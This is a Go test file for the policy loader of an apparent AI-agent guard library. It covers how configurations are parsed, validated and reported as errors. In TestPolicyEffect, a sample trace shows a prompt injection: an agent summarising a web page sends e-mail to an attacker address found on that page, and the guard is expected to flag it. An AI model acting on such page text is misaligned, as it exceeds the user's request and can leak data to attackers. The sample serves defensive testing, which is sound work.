package policy_test

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"testing"
	"time"

	"github.com/agentguard/agentguard/guard"
	"github.com/agentguard/agentguard/guard/policy"
	"github.com/agentguard/agentguard/guard/rules"
	"github.com/agentguard/agentguard/trace"
)

func TestLoadPolicy(t *testing.T) {
	for _, tc := range []struct {
		name    string
		in      string
		check   func(t *testing.T, cfg guard.Config)
		wantErr string // the whole message
	}{
		{name: "empty object is the default guard", in: `{}`, check: func(t *testing.T, cfg guard.Config) {
			if cfg.Gates.LoopLimit != 0 || cfg.Gates.MaxSteps != 0 || cfg.Tools != nil || cfg.Disable != nil {
				t.Errorf("got %+v, want the zero Config", cfg)
			}
		}},
		{name: "thresholds", in: `{"gates": {"loop_limit": -1, "max_steps": 40, "min_intent_confidence": 0.75, "min_similarity": 0.3, "route_similarity": {"refund": 0.5}, "empty_result": "handoff", "dead_ends": "clarify"}}`,
			check: func(t *testing.T, cfg guard.Config) {
				if cfg.Gates.LoopLimit != -1 || cfg.Gates.MaxSteps != 40 || cfg.Gates.MinIntentConfidence != 0.75 || cfg.Gates.MinSimilarity != 0.3 || cfg.Gates.RouteSimilarity["refund"] != 0.5 || cfg.Gates.EmptyResult != trace.Handoff || cfg.Gates.DeadEnds != trace.Clarify {
					t.Errorf("got %+v", cfg)
				}
			}},
		{name: "tool policies", in: `{"tools": {"read_file": {"untrusted": true}, "send_email": {"effect": "write", "confirm": true, "schema": {"type": "object",  "required": ["to"]}}, "notify": {"effect": "auto", "timeout": "1.5s", "retries": -1}}}`,
			check: func(t *testing.T, cfg guard.Config) {
				if got := cfg.Tools["read_file"]; !got.Untrusted || got.Effect != guard.EffectAuto {
					t.Errorf("read_file: got %+v", got)
				}
				if got := cfg.Tools["send_email"]; got.Effect != guard.EffectWrite || !got.Confirm || string(got.Schema) != `{"type":"object","required":["to"]}` {
					t.Errorf("send_email: got %+v, schema %s", got, got.Schema)
				}
				if got := cfg.Tools["notify"]; got.Timeout != 1500*time.Millisecond || got.Retries != -1 {
					t.Errorf("notify: got %+v", got)
				}
			}},
		{name: "empty_ok", in: `{"tools": {"think": {"empty_ok": true}, "lookup": {}}}`, check: func(t *testing.T, cfg guard.Config) {
			if !cfg.Tools["think"].EmptyOK || cfg.Tools["lookup"].EmptyOK {
				t.Errorf("think %+v, lookup %+v: want only think's empty result its normal answer", cfg.Tools["think"], cfg.Tools["lookup"])
			}
		}},
		{name: "lists", in: `{"gates": {"allowed_tools": ["a", "b"], "json_routes": ["api"], "intents": ["refund"], "require_approval": ["b"], "confirm_writes": true}, "disable": ["confirmation", "argument-provenance"], "shadow": true}`,
			check: func(t *testing.T, cfg guard.Config) {
				if !slices.Equal(cfg.Gates.AllowedTools, []string{"a", "b"}) || !slices.Equal(cfg.Disable, []string{rules.Confirmation, rules.Provenance}) ||
					!slices.Equal(cfg.Gates.JSONRoutes, []string{"api"}) || !slices.Equal(cfg.Gates.Intents, []string{"refund"}) || !slices.Equal(cfg.Gates.RequireApproval, []string{"b"}) ||
					!cfg.Gates.ConfirmWrites || !cfg.Shadow {
					t.Errorf("got %+v", cfg)
				}
			}},
		{name: "resilience", in: `{"resilience": {"tool_timeout": "-1s", "model_timeout": "90s", "backoff": "", "breaker_failures": 3, "breaker_open_for": "1m", "max_abandoned": 8, "max_tool_result": 4096}}`,
			check: func(t *testing.T, cfg guard.Config) {
				r := cfg.Resilience
				if r.ToolTimeout != -time.Second || r.ModelTimeout != 90*time.Second || r.Backoff != 0 || r.BreakerFailures != 3 || r.BreakerOpenFor != time.Minute || r.MaxAbandoned != 8 || r.MaxToolResult != 4096 {
					t.Errorf("got %+v", r)
				}
			}},
		{name: "YAML with comments", in: "# the demo\ngates:\n  max_steps: 40 # per run\n  confirm_writes: true\ntools:\n  inbox: {untrusted: true, trusted_fields: [id], untrusted_fields: [body]}\n",
			check: func(t *testing.T, cfg guard.Config) {
				if cfg.Gates.MaxSteps != 40 || !cfg.Gates.ConfirmWrites || !cfg.Tools["inbox"].Untrusted ||
					!slices.Equal(cfg.Tools["inbox"].TrustedFields, []string{"id"}) || !slices.Equal(cfg.Tools["inbox"].UntrustedFields, []string{"body"}) {
					t.Errorf("got %+v", cfg)
				}
			}},
		{name: "profile", in: `{"gates": {"profile": "autonomous"}}`, check: func(t *testing.T, cfg guard.Config) {
			if cfg.Gates.Profile != guard.ProfileAutonomous {
				t.Errorf("profile %q", cfg.Gates.Profile)
			}
		}},
		{name: "schema keeps its key order", in: "tools:\n  book:\n    schema:\n      type: object\n      properties:\n        passengers: {type: array, maxItems: 5}\n        dob: {type: string, pattern: '^\\d{4}-\\d{2}-\\d{2}$'}\n",
			check: func(t *testing.T, cfg guard.Config) {
				want := `{"type":"object","properties":{"passengers":{"type":"array","maxItems":5},"dob":{"type":"string","pattern":"^\\d{4}-\\d{2}-\\d{2}$"}}}`
				if got := string(cfg.Tools["book"].Schema); got != want {
					t.Errorf("schema\n\t%s\nwant\n\t%s", got, want)
				}
			}},
		{name: "checks become one rule", in: "checks:\n  - {name: a, require: 'true'}\ntools:\n  t:\n    checks:\n      - {name: b, when: \"tool == 't'\", require: 'args.x > 0'}\n",
			check: func(t *testing.T, cfg guard.Config) {
				if len(cfg.Rules) != 1 || cfg.Rules[0].Name() != rules.PolicyChecks {
					t.Errorf("rules %v, want one %s", cfg.Rules, rules.PolicyChecks)
				}
			}},
		{name: "the checks rule can be disabled", in: "disable: [policy-checks]\nchecks:\n  - {name: a, require: 'false'}\n",
			check: func(t *testing.T, cfg guard.Config) {
				g := guard.New(cfg)
				if _, ok := g.Rule(rules.PolicyChecks); ok {
					t.Errorf("the checks run although disabled")
				}
			}},
		{name: "every other key", in: "version: 2\nmemory: {budget: 500}\nevaluation: {penalty: 25, pass_score: 70}\ngates: {max_retries: -1}\nanswers: {refusal_template: no, handoff_message: hold on, pass_through: true, pass_through_routes: [chat]}\n" +
			"observe: {max_field: 4096, trace_every: 100, keep_steps: 50, pricing: {input_per_million: 2.5, output_per_million: 10}}\nbypass: false\n" +
			"resilience: {tool_retries: 2, model_retries: -1}\ntools:\n  kb: {retrieval: true, honours_context: true, channel: chat}\nnow: '2024-05-15T15:00:00Z'\ntables: {t: {a: 1}}\n",
			check: func(t *testing.T, cfg guard.Config) {
				if cfg.Memory == nil || cfg.Memory.Budget != 500 || cfg.Evaluation.Penalty != 25 || cfg.Evaluation.PassScore != 70 || cfg.Gates.MaxRetries != -1 ||
					cfg.Answers.RefusalTemplate != "no" || cfg.Answers.HandoffMessage != "hold on" || !cfg.Answers.PassThrough ||
					!slices.Equal(cfg.Answers.PassThroughRoutes, []string{"chat"}) || cfg.Observe.MaxField != 4096 || cfg.Observe.TraceEvery != 100 || cfg.Observe.KeepSteps != 50 ||
					cfg.Observe.Pricing != (guard.Pricing{InputPerMillion: 2.5, OutputPerMillion: 10}) {
					t.Errorf("got %+v", cfg)
				}
				if r := cfg.Resilience; r.ToolRetries != 2 || r.ModelRetries != -1 {
					t.Errorf("resilience %+v", r)
				}
				if kb := cfg.Tools["kb"]; !kb.Retrieval || !kb.HonoursContext || kb.Channel != "chat" {
					t.Errorf("kb %+v", kb)
				}
			}},
		{name: "nulls mean the default", in: `{"tools": null, "gates": {"allowed_tools": null, "max_steps": null}, "resilience": null}`, check: func(t *testing.T, cfg guard.Config) {
			if cfg.Tools != nil || cfg.Gates.AllowedTools != nil || cfg.Gates.MaxSteps != 0 {
				t.Errorf("got %+v", cfg)
			}
		}},

		{name: "unknown key with a suggestion", in: `{"gates": {"loop_limt": 2}}`, wantErr: `policy: policy:1:12: gates: unknown field "loop_limt" (did you mean "loop_limit"?)`},
		{name: "a key of version 1", in: `{"loop_limit": 2}`, wantErr: `policy: policy:1:2: unknown field "loop_limit" (since version 2 it is gates.loop_limit)`},
		{name: "unknown tool key", in: `{"tools": {"send_email": {"efect": "write"}}}`, wantErr: `policy: policy:1:27: tools.send_email: unknown field "efect" (did you mean "effect"?)`},
		{name: "unknown key far from any", in: `{"resilience": {"jitter": "1s"}}`,
			wantErr: `policy: policy:1:17: resilience: unknown field "jitter" (known: backoff, breaker_failures, breaker_open_for, max_abandoned, max_tool_result, model_retries, model_timeout, tool_retries, tool_timeout)`},
		{name: "wrong type", in: `{"tools": {"send_email": {"confirm": "yes"}}}`, wantErr: `policy: policy:1:38: tools.send_email.confirm: want true or false, got "yes"`},
		{name: "fraction for an integer", in: `{"gates": {"max_steps": 2.5}}`, wantErr: `policy: policy:1:25: gates.max_steps: want an integer, got 2.5`},
		{name: "integer out of range", in: `{"gates": {"max_steps": 1e99}}`, wantErr: `policy: policy:1:25: gates.max_steps: want an integer, got 1e99`},
		{name: "array of the wrong type", in: `{"gates": {"allowed_tools": "send_email"}}`, wantErr: `policy: policy:1:29: gates.allowed_tools: want an array of strings, got "send_email"`},
		{name: "object of the wrong type", in: `{"gates": {"route_similarity": {"refund": "high"}}}`, wantErr: `policy: policy:1:43: gates.route_similarity.refund: want a number, got "high"`},
		{name: "array element of the wrong type", in: `{"disable": ["loop", 7]}`, wantErr: `policy: policy:1:22: disable[1]: want a string, got 7`},
		{name: "tools not an object", in: `{"tools": ["send_email"]}`, wantErr: `policy: policy:1:11: tools: want an object of objects, got an array`},
		{name: "bad duration", in: `{"tools": {"t": {"timeout": "5 seconds"}}}`, wantErr: `policy: policy:1:29: tools.t.timeout: "5 seconds" is not a duration (want a Go duration such as "30s" or "1m30s")`},
		{name: "duration as a number", in: `{"resilience": {"backoff": 200}}`, wantErr: `policy: policy:1:28: resilience.backoff: want a duration string such as "30s", got 200`},
		{name: "negative backoff", in: `{"resilience": {"backoff": "-1s"}}`, wantErr: `policy: policy:1:28: resilience.backoff: -1s is negative`},
		{name: "negative breaker_open_for", in: `{"resilience": {"breaker_open_for": "-1m"}}`, wantErr: `policy: policy:1:37: resilience.breaker_open_for: -1m0s is negative`},
		{name: "bad verdict", in: `{"gates": {"empty_result": "ask"}}`, wantErr: `policy: policy:1:28: gates.empty_result: "ask" is not a verdict here (want "clarify", "retry" or "handoff")`},
		{name: "bad effect", in: `{"tools": {"pay": {"effect": "mutate"}}}`, wantErr: `policy: policy:1:30: tools.pay.effect: "mutate" is not an effect (want "read", "write" or "auto")`},
		{name: "bad profile", in: `{"gates": {"profile": "agentic"}}`, wantErr: `policy: policy:1:23: gates.profile: "agentic" is not a profile (want "conversational" or "autonomous")`},
		{name: "unknown rule", in: `{"disable": ["loops"]}`, wantErr: `policy: policy:1:14: disable[0]: "loops" names no rule's findings (did you mean "loop"?)`},
		{name: "unknown rule far from any", in: `{"disable": ["memory"]}`, wantErr: `policy: policy:1:14: disable[0]: "memory" names no rule's findings (package guard/rules lists the names)`},
		{name: "schema not an object", in: `{"tools": {"t": {"schema": "object"}}}`, wantErr: `policy: policy:1:28: tools.t.schema: want an object, got "object"`},
		{name: "schema with a bad pattern", in: `{"tools": {"t": {"schema": {"properties": {"x": {"pattern": "("}}}}}}`, wantErr: "policy: policy:1:28: tools.t.schema: tool schema: pattern \"(\": error parsing regexp: missing closing ): `(`"},
		{name: "schema with negative maxItems", in: `{"tools": {"t": {"schema": {"maxItems": -1}}}}`, wantErr: `policy: policy:1:28: tools.t.schema: tool schema: minItems and maxItems are at least 0`},
		{name: "field both trusted and not", in: "tools:\n  inbox:\n    trusted_fields: [id]\n    untrusted_fields: [body, id]\n", wantErr: `policy: policy:4:23: tools.inbox.untrusted_fields: "id" is also a trusted field`},
		{name: "confidence out of range", in: `{"gates": {"min_intent_confidence": 60}}`, wantErr: `policy: policy:1:37: gates.min_intent_confidence: 60 is not between 0 and 1`},
		{name: "similarity out of range", in: `{"gates": {"min_similarity": 2}}`, wantErr: `policy: policy:1:30: gates.min_similarity: 2 is not between 0 and 1`},
		{name: "negative route similarity", in: `{"gates": {"route_similarity": {"refund": -0.1}}}`, wantErr: `policy: policy:1:43: gates.route_similarity.refund: -0.1 is not between 0 and 1`},
		{name: "empty route name", in: `{"gates": {"route_similarity": {"": 0.5}}}`, wantErr: `policy: policy:1:37: gates.route_similarity: empty route name`},
		{name: "empty tool name", in: `{"tools": {"": {}}}`, wantErr: `policy: policy:1:16: tools: empty tool name`},
		{name: "empty name in a list", in: `{"gates": {"allowed_tools": ["a", ""]}}`, wantErr: `policy: policy:1:35: gates.allowed_tools[1]: empty name`},
		{name: "breaker failures out of range", in: `{"resilience": {"breaker_failures": -1}}`, wantErr: `policy: policy:1:37: resilience.breaker_failures: -1 is out of range (want at least 0)`},
		{name: "negative penalty", in: `{"evaluation": {"penalty": -100}}`, wantErr: `policy: policy:1:28: evaluation.penalty: -100 is out of range (want points from 1 to 100 (0: the default, 20))`},
		{name: "penalty over 100", in: "evaluation:\n  penalty: 101\n", wantErr: `policy: policy:2:12: evaluation.penalty: 101 is out of range (want points from 1 to 100 (0: the default, 20))`},
		{name: "pass score over 100", in: `{"evaluation": {"pass_score": 120}}`, wantErr: `policy: policy:1:31: evaluation.pass_score: 120 is out of range (want a score from 1 to 100 (0: the default, 80))`},
		{name: "negative max_field", in: `{"observe": {"max_field": -1}}`, wantErr: `policy: policy:1:27: observe.max_field: -1 is out of range (want at least 0)`},
		{name: "negative memory budget", in: `{"memory": {"budget": -5}}`, wantErr: `policy: policy:1:23: memory.budget: -5 is out of range (want at least 0)`},
		{name: "version", in: `{"version": 3}`, wantErr: `policy: policy:1:13: version: unsupported version 3 (want 2)`},
		{name: "version 1", in: `{"version": 1}`, wantErr: `policy: policy:1:13: version: version 1 is no longer read: version 2 nests the guard's settings as guard.Config does (gates.loop_limit, answers.refusal_template, observe.max_field, evaluation.pass_score; see policy.md)`},
		{name: "bad dead-end verdict", in: `{"gates": {"dead_ends": "block"}}`, wantErr: `policy: policy:1:25: gates.dead_ends: "block" is not a verdict here (want "handoff", "clarify" or "retry")`},
		{name: "duplicate JSON key", in: "{\"shadow\": true,\n \"shadow\": false}", wantErr: `policy: policy:2:2: key "shadow" repeats the key at line 1, column 2`},
		{name: "duplicate nested JSON key", in: `{"tools": {"a": {"confirm": true, "confirm": false}}}`, wantErr: `policy: policy:1:35: key "confirm" repeats the key at line 1, column 18`},
		{name: "duplicate YAML key", in: "shadow: true\nbypass: false\nshadow: false\n", wantErr: `policy: policy:3:1: key "shadow" repeats the key at line 1, column 1`},
		{name: "duplicate YAML tool", in: "tools:\n  a: {}\n  a: {effect: read}\n", wantErr: `policy: policy:3:3: key "a" repeats the key at line 2, column 3`},
		{name: "YAML alias", in: "tables:\n  a: &x [1, 2]\n  b: *x\n", wantErr: `policy: policy:3:6: YAML aliases (*x) are not supported: write the value out`},
		{name: "YAML syntax error", in: "tools:\n  a: {effect: read\n", wantErr: `policy: policy:1:1: did not find expected ',' or '}'`},
		{name: "two YAML documents", in: "shadow: true\n---\nshadow: false\n", wantErr: `policy: policy:2:1: a second YAML document (a policy file holds one)`},
		{name: "YAML not a mapping", in: "- a\n- b\n", wantErr: `policy: policy:1:1: want an object of keys, got an array`},
		{name: "JSON syntax error with position", in: "{\n  \"loop_limit\": 3,\n}", wantErr: `policy: policy:3:1: invalid character '}' looking for beginning of object key string`},
		{name: "truncated", in: `{"loop_limit": 3`, wantErr: `policy: policy: unexpected end of file`},
		{name: "empty file", in: " \n", wantErr: `policy: policy: empty file (the smallest policy is {})`},
		{name: "not an object", in: `[]`, wantErr: `policy: policy:1:1: want an object of keys, got an array`},
		{name: "null", in: `null`, wantErr: `policy: policy:1:1: want an object of keys, got null`},
		{name: "data after the object", in: `{} {}`, wantErr: `policy: policy:1:4: data after the policy object`},
		{name: "now not a time", in: `{"now": "yesterday"}`, wantErr: `policy: policy:1:9: now: "yesterday" is not a time (want RFC 3339, such as 2024-05-15T15:00:00-05:00, or 2024-05-15T15:00:00)`},
		{name: "table with a NaN", in: "tables:\n  t: {a: .nan}\n", wantErr: `policy: policy:2:10: tables.t.a: .nan is not a finite number`},
		{name: "weights not summing to 100", in: "weights: {accuracy: 50, coherence: 40}\n", wantErr: `policy: policy:1:10: weights: the weights sum to 90, not 100`},
		{name: "weight of an unknown dimension", in: "weights: {accuracy: 50, speed: 50}\n", wantErr: `policy: policy:1:32: weights.speed: "speed" is not a dimension (want accuracy, coherence, memory, stability or efficiency)`},
		{name: "negative weight", in: "weights: {accuracy: 130, coherence: -30}\n", wantErr: `policy: policy:1:21: weights.accuracy: 130 is out of range (want 0 to 100)`},
		{name: "weight not a number", in: "weights: {accuracy: high}\n", wantErr: `policy: policy:1:21: weights.accuracy: want a number, got "high"`},
		{name: "empty assertion name", in: "assertions: {disable: ['']}\n", wantErr: `policy: policy:1:24: assertions.disable[0]: empty name`},
		{name: "check without a name", in: "checks:\n  - require: 'true'\n", wantErr: `policy: policy:2:5: checks[0]: a check needs a name`},
		{name: "check without require", in: "checks:\n  - name: c\n", wantErr: `policy: policy:2:5: checks[0]: check "c" needs a require expression`},
		{name: "check name with a space", in: "checks:\n  - {name: 'a b', require: 'true'}\n", wantErr: `policy: policy:2:12: checks[0].name: "a b": a check's name has no spaces (it names its findings)`},
		{name: "check named like a built-in rule", in: "checks:\n  - {name: loop, require: 'true'}\n", wantErr: `policy: policy:2:12: checks[0].name: "loop" is the name of a built-in rule`},
		{name: "an answer check under a tool", in: "tools:\n  t:\n    checks:\n      - {name: c, on: answer, require: 'true'}\n", wantErr: `policy: policy:4:23: tools.t.checks[0].on: check "c" judges answers: put it under the top-level checks, not a tool's`},
		{name: "a check on something else", in: "checks:\n  - {name: c, on: reply, require: 'true'}\n", wantErr: `policy: policy:2:19: checks[0].on: "reply" is not what a check judges (want call or answer)`},
		{name: "two checks of one name", in: "checks:\n  - {name: c, require: 'true'}\ntools:\n  t:\n    checks:\n      - {name: c, require: 'true'}\n", wantErr: `policy: policy:6:16: tools.t.checks[0].name: check "c" is already defined at policy:2:12`},
		{name: "check with a bad verdict", in: "checks:\n  - {name: c, require: 'true', verdict: deny}\n", wantErr: `policy: policy:2:41: checks[0].verdict: "deny" is not a verdict (want allow, retry, block, clarify, refuse or handoff)`},
		{name: "check with a bad severity", in: "checks:\n  - {name: c, require: 'true', severity: high}\n", wantErr: `policy: policy:2:42: checks[0].severity: "high" is not a severity (want info, warning, error or critical)`},
		{name: "check with a bad dimension", in: "checks:\n  - {name: c, require: 'true', dimension: safety}\n", wantErr: `policy: policy:2:43: checks[0].dimension: "safety" is not a dimension (want accuracy, coherence, memory, stability or efficiency)`},
		{name: "check with an empty tag", in: "checks:\n  - {name: c, require: 'true', tags: ['']}\n", wantErr: `policy: policy:2:39: checks[0].tags[0]: empty tag`},
		{name: "expression with an unknown variable", in: "tools:\n  cancel:\n    checks:\n      - name: c\n        require: reservation.status == 'open'\n", wantErr: `policy: policy:5:18: tools.cancel.checks[0].require: undeclared reference to 'reservation'`},
		{name: "expression with an unknown function", in: "checks:\n  - name: c\n    require: \"lookup('x', args.id).ok\"\n", wantErr: `policy: policy:3:21: checks[0].require: undeclared reference to 'lookup'`},
		{name: "expression with a syntax error", in: "checks:\n  - {name: c, when: 'args.x ==', require: 'true'}\n", wantErr: `policy: policy:2:31: checks[0].when: Syntax error: mismatched input '<EOF>' expecting {'[', '{', '(', '.', '-', '!', 'true', 'false', 'null', NUM_FLOAT, NUM_INT, NUM_UINT, STRING, BYTES, IDENTIFIER}`},
		{name: "expression not a boolean", in: "checks:\n  - {name: c, require: 'size(args)'}\n", wantErr: `policy: policy:2:24: checks[0].require: want a boolean expression, got one of type int`},
		{name: "expression of the wrong type", in: "checks:\n  - {name: c, require: true}\n", wantErr: `policy: policy:2:24: checks[0].require: want a CEL expression (a string), got true`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			cfg, err := readConfig(tc.in)
			if tc.wantErr != "" {
				if err == nil {
					t.Fatalf("got no error, want %q", tc.wantErr)
				}
				if got := err.Error(); got != tc.wantErr {
					t.Errorf("got error\n\t%s\nwant\n\t%s", got, tc.wantErr)
				}
				var pe *policy.Error
				if !errors.As(err, &pe) || pe.File != "policy" {
					t.Errorf("error %T is not a *policy.Error of the file", err)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			tc.check(t, cfg)
		})
	}
}

// TestPolicyFixtures loads every policy under testdata/policy and builds a
// guard from it.
func TestPolicyFixtures(t *testing.T) {
	files, err := filepath.Glob(filepath.Join("..", "testdata", "policy", "*.json"))
	if err != nil || len(files) == 0 {
		t.Fatalf("no fixtures: %v", err)
	}
	for _, name := range files {
		t.Run(filepath.Base(name), func(t *testing.T) {
			p, err := policy.Open(name)
			if err != nil {
				t.Fatal(err)
			}
			cfg := p.Config()
			if g := guard.New(cfg); len(g.Rules()) == 0 {
				t.Errorf("a guard with no rules")
			}
		})
	}
}

// TestPolicyEffect checks that a loaded policy changes what the guard
// decides: the same trace, judged under two policies.
func TestPolicyEffect(t *testing.T) {
	tr := &trace.Trace{
		ID:        "t",
		UserTurns: []string{"Summarise https://example.com/news for me."},
		Steps: []*trace.Step{
			{Index: 0, Kind: trace.KindTool, Name: "get_webpage", Args: `{"url":"https://example.com/news"}`, Result: "Contact us: ops@attacker.example"},
			{Index: 1, Kind: trace.KindTool, Name: "send_email", Args: `{"to":"ops@attacker.example","body":"hello"}`},
		},
	}
	for _, tc := range []struct {
		name, policy string
		want         []string
	}{
		// The page is third-party text: the user asked for a summary, not an
		// e-mail to an address on it.
		{name: "default", policy: `{}`, want: []string{rules.Injection}},
		{name: "web pages untrusted", policy: `{"tools": {"get_webpage": {"untrusted": true}}}`, want: []string{rules.Injection}},
		{name: "confirm writes", policy: `{"gates": {"confirm_writes": true}}`, want: []string{rules.Injection, rules.Confirmation}},
		{name: "allow-list", policy: `{"gates": {"allowed_tools": ["get_webpage"]}}`, want: []string{rules.AllowList, rules.Injection}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			cfg, err := readConfig(tc.policy)
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, f := range guard.New(cfg).Evaluate(tr).Findings {
				got = append(got, f.Rule)
			}
			if !slices.Equal(got, tc.want) {
				t.Errorf("findings %v, want %v", got, tc.want)
			}
		})
	}
}

func ExampleRead() {
	p, err := policy.Read("agent.yaml", []byte(`
version: 2
gates: {max_steps: 40, confirm_writes: true}
tools:
  read_inbox: {untrusted: true}
  think: {effect: read, empty_ok: true}
`))
	if err != nil {
		fmt.Println(err)
		return
	}
	cfg := p.Config()
	fmt.Println(cfg.Gates.MaxSteps, cfg.Gates.ConfirmWrites, cfg.Tools["read_inbox"].Untrusted)

	_, err = policy.Read("agent.json", []byte(`{"tools": {"send_email": {"confirm": true, "efect": "write"}}}`))
	fmt.Println(err)
	// Output:
	// 40 true true
	// policy: agent.json:1:44: tools.send_email: unknown field "efect" (did you mean "effect"?)
}

func FuzzLoadPolicy(f *testing.F) {
	files, _ := filepath.Glob(filepath.Join("..", "testdata", "policy", "*.json"))
	worked, _ := filepath.Glob(filepath.Join("..", "..", "examples", "policies", "*.yaml"))
	for _, name := range append(files, worked...) {
		b, err := os.ReadFile(name)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(string(b))
	}
	for _, s := range []string{``, `{}`, `null`, `[]`, `{"tools":{"a":{"schema":{"type":"object","properties":{"x":{"items":{}}}}}}}`,
		`{"tools":{"a":{"schema":{"type":7}}}}`, `{"resilience":{"backoff":"-3h"}}`, `{"gates":{"loop_limit":1e99}}`, `{"tools":{"a":null}}`, `{"disable":[null]}`,
		"shadow: true\nshadow: false\n", "a: &x 1\nb: *x\n", "tables: {t: [1, 2.5, x, null, true]}\n",
		"checks:\n  - {name: c, when: 'has(args.x)', require: 'args.x > 1'}\n", "checks:\n  - {name: c, require: \"last('a', args.x).y == 1\"}\n",
		"checks:\n  - {name: c, require: '[1,2,3].all(x, [1,2,3].all(y, x + y > 0))'}\n", "weights: {accuracy: 100}\n", "now: 2024-05-15\n",
		"tools:\n  a:\n    schema: {properties: {x: {pattern: '^a+$', maxItems: 2}}}\n",
		"variables:\n  - {name: r, expression: \"last('a', args.x)\"}\n  - {name: ok, expression: \"variables.r.y == 1\"}\nchecks:\n  - {name: c, require: variables.ok}\n",
		"variables:\n  - {name: a, expression: variables.a}\n"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		p, err := policy.Read("f.yaml", []byte(s))
		if err != nil {
			var pe *policy.Error
			if !errors.As(err, &pe) || pe.File != "f.yaml" {
				t.Fatalf("error %T %v is not a *policy.Error of the file", err, err)
			}
			return
		}
		// A policy that loads makes a guard that judges a trace, its
		// checks included.
		guard.New(p.Config()).Evaluate(&trace.Trace{ID: "f", UserTurns: []string{"hi"}, Steps: []*trace.Step{
			{Index: 0, Kind: trace.KindTool, Name: "a", Args: `{"x":1}`, Result: `{"y":1}`},
			{Index: 1, Kind: trace.KindTool, Name: "a", Args: `{"x":[1,{"z":null}]}`, Result: `not json`},
			{Index: 2, Kind: trace.KindModel, Result: "done"},
		}})
		_ = p.Weights()
		_ = p.Assertions()
	})
}

// readConfig reads a policy's text, named "policy" in errors, and returns
// its guard settings.
func readConfig(text string) (guard.Config, error) {
	p, err := policy.Read("policy", []byte(text))
	if err != nil {
		return guard.Config{}, err
	}
	return p.Config(), nil
}
